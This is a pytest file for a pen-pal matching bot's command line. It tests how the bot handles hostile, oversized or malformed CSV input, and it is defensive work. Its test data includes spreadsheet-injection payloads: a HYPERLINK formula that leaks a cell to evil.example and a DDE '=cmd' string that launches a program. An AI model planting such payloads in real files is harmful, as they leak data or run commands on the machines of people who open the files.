"""The command line against hostile, oversized or misplaced input (issue 10), on both databases.

Each test goes through `penpals` itself (typer's CliRunner, or a subprocess where the
process's own stderr or exit matters) and, where a database is involved, runs on
SQLite and on PostgreSQL.
"""

from __future__ import annotations

import asyncio
import csv
import io
import os
import socket
import sqlite3
import subprocess
import sys
import time
from pathlib import Path

import pytest
from typer.testing import CliRunner

from bots import demo
from bots.cli import app
from core.rounds.applicants_csv import read_pairs

HEADER = ["id", "name", "country", "timezone", "languages", "sector", "career_stage"]
POOL = [
    ["a1", '=HYPERLINK("https://evil.example/?leak="&A1,"Click me")', "SE", "Europe/Stockholm"],
    ["a2", "-Ana- de la Cruz", "NG", "Africa/Lagos"],
    ["a3", "@Renée Taylor", "US", "America/Chicago"],
    ["a4", "+Kenji Sato", "JP", "Asia/Tokyo"],
]
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def write_csv(path: Path, rows: list[list[str]], header: list[str] = HEADER) -> Path:
    buf = io.StringIO()
    writer = csv.writer(buf, lineterminator="\n")
    writer.writerow(header)
    writer.writerows(rows)
    path.write_text(buf.getvalue(), encoding="utf-8", newline="")
    return path


def pool_rows() -> list[list[str]]:
    return [[*r, "en", "public", "mid"] for r in POOL]


def cells(path: Path) -> list[str]:
    """Every cell of a CSV file, split with ',' and with ';' as spreadsheets do."""
    text = path.read_text(encoding="utf-8")
    return [c for d in ",;" for row in csv.reader(io.StringIO(text), delimiter=d) for c in row]


def formulas(path: Path) -> list[str]:
    return [c for c in cells(path) if c.lstrip(' "').startswith(FORMULA_START)]


def penpals(
    *args: str, cwd: Path, env: dict[str, str] | None = None, timeout: float = 120
) -> subprocess.CompletedProcess[str]:
    base = {k: v for k, v in os.environ.items() if not k.startswith("PENPALS_")}
    return subprocess.run(
        [sys.executable, "-m", "bots.cli", *args],
        cwd=cwd,
        env={**base, **(env or {})},
        capture_output=True,
        text=True,
        timeout=timeout,
    )


# -- item 5: CSV injection ------------------------------------------------------------------


def test_exports_neutralise_formulas_and_import_back_the_same(cli, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
    """applications export, pairs files and report CSVs start no cell with a formula trigger;
    an exported file imports back to the same names."""
    pool = write_csv(tmp_path / "in.csv", pool_rows())
    cli("community", "configure", "--country-cap", "1")
    cli("round", "create", "R1")
    cli("round", "open", "R1")
    cli("applications", "import", "R1", str(pool), "--approve")
    cli("applications", "export", "R1", "out.csv")
    assert formulas(tmp_path / "out.csv") == []
    assert "'=HYPERLINK(" in (tmp_path / "out.csv").read_text(encoding="utf-8")

    cli("round", "create", "R2")
    cli("round", "open", "R2")
    cli("applications", "import", "R2", "out.csv")
    cli("applications", "export", "R2", "again.csv")
    assert (tmp_path / "again.csv").read_bytes() == (tmp_path / "out.csv").read_bytes()
    listing = cli("applications", "list", "R2").output
    assert "-Ana- de la Cruz" in listing and "@Renée Taylor" in listing

    cli("round", "close", "R1")
    cli("round", "match", "R1", "--publish", "--seed", "3", "--out", "pairs.csv")
    assert formulas(tmp_path / "pairs.csv") == []
    members = sorted(m for r in read_pairs((tmp_path / "pairs.csv").read_text()) for m in r.members)
    assert members == ["a1", "a2", "a3", "a4"]
    (tmp_path / "reports").mkdir()
    cli("report", "R1", "--out", "reports")
    (report_csv,) = (tmp_path / "reports").glob("*.csv")
    assert formulas(report_csv) == []


def test_report_csv_guards_titles_typed_by_organisers(tmp_path: Path) -> None:
    """Topic titles reach the report CSV: '=...' and '...;=...' are neutralised, numbers kept."""
    from bots.reporting import write_report
    from core.reports.model import Report, RoundFigures, TopicUse

    figures = RoundFigures(
        round="R1",
        state="running",
        starts=None,
        participants=4,
        countries=4,
        new_countries=4,
        new_country_names=(),
        by_country=(("-Other", 4),),
        groups=2,
        trios=0,
        unplaced=0,
        waitlisted=0,
        active_pairs=2,
        activity=(),
        topics=(TopicUse(1, 'Hello;=HYPERLINK("https://evil.example")', 3), TopicUse(2, "=1+1", 1)),
    )
    report = Report(community="@Network", title="R1", rounds=(figures,), by_round=())
    (path,) = [p for p in write_report(report, tmp_path) if p.suffix == ".csv"]
    text = path.read_text(encoding="utf-8")
    assert formulas(path) == []
    assert "Hello;'=HYPERLINK(" in text and ",'-Other," in text


def test_match_writes_a_safe_pairs_file_for_hostile_ids(tmp_path: Path) -> None:
    """`penpals match` guards ids that look like formulas; the pairs file reads back."""
    rows = [
        ["=cmd|' /C calc'!A0", "Ana", "SE", "Europe/Stockholm", "en", "public", "mid"],
        ["-2+3", "Ben", "NG", "Africa/Lagos", "en", "public", "mid"],
    ]
    pool = write_csv(tmp_path / "in.csv", rows)
    done = penpals("match", "--applicants", str(pool), "--out", "pairs.csv", cwd=tmp_path)
    assert done.returncode == 0, done.stderr
    assert formulas(tmp_path / "pairs.csv") == []
    (group,) = read_pairs((tmp_path / "pairs.csv").read_text(encoding="utf-8"))
    assert sorted(group.members) == sorted(r[0] for r in rows)


def test_an_id_with_a_semicolon_is_refused_with_line_and_field(cli, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
    """';' separates ids in a list cell: an id holding one is refused, nothing imported."""
    rows = pool_rows()
    rows[2][0] = "a3;a4"
    pool = write_csv(tmp_path / "in.csv", rows)
    cli("round", "create", "R1")
    cli("round", "open", "R1")
    said = cli("applications", "import", "R1", str(pool), code=2).output
    assert "line 4: id: " in said and "';'" in said
    assert "0 application(s)" in cli("applications", "list", "R1").output


# -- item 12: time zones naming a tzdata folder or too long ----------------------------------

ZONES = ["Europe", "America/Argentina", "Z" * 300]


@pytest.mark.parametrize("zone", ZONES, ids=["folder", "subfolder", "300-chars"])
def test_match_refuses_a_folder_time_zone(tmp_path: Path, zone: str) -> None:
    """`penpals match` reports the line and the unknown time zone; no traceback."""
    rows = pool_rows()
    rows[1][3] = zone
    pool = write_csv(tmp_path / "in.csv", rows)
    done = penpals("match", "--applicants", str(pool), "--out", "pairs.csv", cwd=tmp_path)
    assert done.returncode == 2, done.stderr
    assert "line 3: timezone: unknown time zone" in done.stderr
    assert "Traceback" not in done.stderr and "Error" not in done.stderr.split("line 3")[0]
    assert len(done.stderr) < 1000


@pytest.mark.parametrize("zone", ZONES, ids=["folder", "subfolder", "300-chars"])
def test_import_refuses_a_folder_time_zone(cli, tmp_path: Path, zone: str) -> None:  # type: ignore[no-untyped-def]
    """`applications import` refuses it the same way on both databases."""
    rows = pool_rows()
    rows[0][3] = zone
    pool = write_csv(tmp_path / "in.csv", rows)
    cli("round", "create", "R1")
    cli("round", "open", "R1")
    said = cli("applications", "import", "R1", str(pool), code=2).output
    assert "line 2: timezone: unknown time zone" in said


# -- item 13: NUL bytes and ids longer than their column -------------------------------------


def test_nul_bytes_and_long_ids_are_named_before_the_database(cli, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
    """Identical on SQLite and PostgreSQL: line and field, not "the database could not be used"."""
    rows = pool_rows()
    rows[0][1] = "Ana\x00Lindqvist"
    rows[1][0] = "x" * 65
    rows[2][3] = "Europe/Helsinki\x00"
    pool = write_csv(tmp_path / "in.csv", rows)
    cli("round", "create", "R1")
    cli("round", "open", "R1")
    said = cli("applications", "import", "R1", str(pool), code=2).output
    assert "database" not in said
    assert "line 2: name: remove the control character U+0000" in said
    assert "line 3: id: id 'xxx" in said and "65 characters long: use at most 64" in said
    assert "line 4: timezone: unknown time zone" in said
    rows = pool_rows()
    rows[3][0] = "y" * 64  # the longest id the column holds is fine
    cli("applications", "import", "R1", str(write_csv(tmp_path / "ok.csv", rows)))


# -- item 14: a huge header, a huge field ------------------------------------------------------


def test_a_header_of_100000_columns_is_read_quickly(tmp_path: Path) -> None:
    """100,000 extra columns took 260 s (a quadratic duplicate check): now a moment."""
    header = HEADER + [f"extra{i}" for i in range(100_000)]
    pool = write_csv(tmp_path / "in.csv", pool_rows(), header=header)
    started = time.perf_counter()
    done = penpals("match", "--applicants", str(pool), "--out", "pairs.csv", cwd=tmp_path)
    assert done.returncode == 0, done.stderr
    assert time.perf_counter() - started < 30


def test_a_field_over_the_csv_limit_names_line_and_field(tmp_path: Path) -> None:
    """A 200,000-character name is reported as such, not as a quoting problem."""
    rows = pool_rows()
    rows[2][1] = "N" * 200_000
    pool = write_csv(tmp_path / "in.csv", rows)
    done = penpals("match", "--applicants", str(pool), "--out", "pairs.csv", cwd=tmp_path)
    assert done.returncode == 2
    assert "line 4: the name field is longer than 131,072 characters" in done.stderr
    assert "quote" not in done.stderr and "Traceback" not in done.stderr


# -- item 15: each error names its real cause ----------------------------------------------------


def test_a_database_in_a_missing_folder_is_named(tmp_path: Path) -> None:
    """No aiosqlite "Event loop is closed" traceback (it came in about half the runs)."""
    url = f"sqlite:///{tmp_path / 'missing' / 'penpals.db'}"
    for args in (["round", "list"], ["round", "create", "R1"], ["db", "upgrade"]):
        done = penpals(*args, cwd=tmp_path, env={"PENPALS_DATABASE_URL": url})
        assert done.returncode == 2, done.stderr
        assert f"the folder {tmp_path / 'missing'} does not exist" in done.stderr
        assert "Traceback" not in done.stderr and "Event loop" not in done.stderr
    assert not (tmp_path / "missing").exists()


def test_an_unopenable_sqlite_file_gives_one_sentence_every_time(tmp_path: Path) -> None:
    """A folder given as the database file: one sentence, never a worker-thread traceback."""
    (tmp_path / "a-folder").mkdir()
    url = f"sqlite:///{tmp_path / 'a-folder'}"
    for _ in range(6):
        done = penpals("round", "create", "R1", cwd=tmp_path, env={"PENPALS_DATABASE_URL": url})
        assert done.returncode == 1
        assert "Traceback" not in done.stderr and "Event loop" not in done.stderr, done.stderr
        assert done.stderr.count("\n") == 1


def closed_port() -> int:
    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        return int(s.getsockname()[1])


def test_an_unreachable_discord_is_named(sqlite_database_url: str, tmp_path: Path) -> None:
    """`DISCORD_TOKEN=abc penpals run discord` with Discord unreachable names Discord."""
    done = penpals(
        "run",
        "discord",
        cwd=tmp_path,
        env={
            "PENPALS_DATABASE_URL": sqlite_database_url,
            "DISCORD_TOKEN": "abc",
            "PENPALS_DISCORD_API_URL": f"http://127.0.0.1:{closed_port()}/api/v10",
        },
    )
    assert done.returncode == 1
    last = done.stderr.strip().splitlines()[-1]
    assert last.startswith("Error: could not reach Discord"), done.stderr
    assert "database" not in last and "Traceback" not in done.stderr


# -- item 16: commands that only read never write ----------------------------------------------


def communities_in(path: Path) -> list[tuple[str, str]]:
    with sqlite3.connect(path) as db:
        return db.execute("SELECT platform, external_id FROM communities").fetchall()


READERS = [
    ["round", "list"],
    ["round", "show", "R1"],
    ["round", "groups", "R1"],
    ["applications", "list", "R1"],
    ["applications", "export", "R1", "out.csv"],
    ["topics", "list"],
    ["report"],
    ["member", "export", "u1"],
    ["survey", "results", "R1"],
]


def stored_communities(url: str) -> int:
    """Count the communities in the database (its own event loop: the CLI runs its own)."""
    from sqlalchemy import text

    from adapters.storage.engine import create_engine

    async def count() -> int:
        engine = create_engine(url)
        try:
            async with engine.connect() as connection:
                found = await connection.execute(text("SELECT count(*) FROM communities"))
                return int(found.scalar_one())
        finally:
            await engine.dispose()

    return asyncio.run(count())


def test_reading_commands_create_no_community(
    database_url: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """round list, show, groups, applications list/export, topics, report... store nothing."""
    monkeypatch.setenv("PENPALS_DATABASE_URL", database_url)
    monkeypatch.setenv("PENPALS_COMMUNITY", "local:never-made")
    monkeypatch.chdir(tmp_path)
    runner = CliRunner()
    listed = runner.invoke(app, ["round", "list"])
    assert listed.exit_code == 0 and "No rounds yet" in listed.output
    assert "Getting to know each other" in runner.invoke(app, ["topics", "list"]).output
    for args in READERS:
        result = runner.invoke(app, args)
        assert result.exit_code in (0, 1), (args, result.output)
        assert "Traceback" not in result.output and "id 0" not in result.output
    assert stored_communities(database_url) == 0
    created = runner.invoke(app, ["round", "create", "R1"])
    assert created.exit_code == 0
    # The community exists only now, made by a command that writes.
    assert "R1" in runner.invoke(app, ["round", "list"]).output
    assert stored_communities(database_url) == 1


def test_round_list_leaves_the_demo_database_to_the_demo(tmp_path: Path) -> None:
    """The README's look-around hint without PENPALS_COMMUNITY, then `penpals demo` again."""
    env = {"PENPALS_DATABASE_URL": "sqlite:///./penpals-demo.db"}
    first = penpals("demo", "--size", "10", cwd=tmp_path, env=env, timeout=300)
    assert first.returncode == 0, first.stderr
    before = communities_in(tmp_path / demo.DEMO_DATABASE)
    looked = penpals("round", "list", cwd=tmp_path, env=env)
    assert looked.returncode == 0, looked.stderr
    assert communities_in(tmp_path / demo.DEMO_DATABASE) == before == [("local", "rehearsal")]
    again = penpals("demo", "--size", "10", cwd=tmp_path, env=env, timeout=300)
    assert again.returncode == 0, again.stderr


def test_the_demo_recovers_its_file_after_an_old_round_list(tmp_path: Path) -> None:
    """A demo file where an older `round list` made an empty community is recreated."""
    env = {"PENPALS_DATABASE_URL": "sqlite:///./penpals-demo.db"}
    assert penpals("demo", "--size", "10", cwd=tmp_path, env=env, timeout=300).returncode == 0
    path = tmp_path / demo.DEMO_DATABASE
    with sqlite3.connect(path) as db:  # what `round list` did before it only read
        db.execute(
            "INSERT INTO communities (platform, external_id, name, default_language, "
            "pairing_rule, organiser_roles, channels, created_at) "
            "SELECT 'local', 'default', 'default', default_language, pairing_rule, "
            "organiser_roles, channels, created_at FROM communities"
        )
    again = penpals("demo", "--size", "10", cwd=tmp_path, env=env, timeout=300)
    assert again.returncode == 0, again.stderr
    assert communities_in(path) == [("local", "rehearsal")]


def test_reading_a_missing_sqlite_file_does_not_create_it(tmp_path: Path) -> None:
    """`round list` on a file that is not there says to run `db upgrade` and makes no file."""
    done = penpals("round", "list", cwd=tmp_path, env={"PENPALS_DATABASE_URL": "sqlite:///./x.db"})
    assert done.returncode == 1 and "penpals db upgrade" in done.stderr
    assert not (tmp_path / "x.db").exists()


# -- item 17: only the languages penpals writes in ---------------------------------------------


def test_configure_refuses_a_language_without_a_catalog(cli) -> None:  # type: ignore[no-untyped-def]
    """--language fi is refused, listing the catalogs present (en, es, fr); fr is accepted."""
    said = cli("community", "configure", "--language", "fi", code=2).output
    assert "penpals does not write in 'fi'" in said and "en, es, fr" in said
    assert "Language fr" in cli("community", "configure", "--language", "FR").output
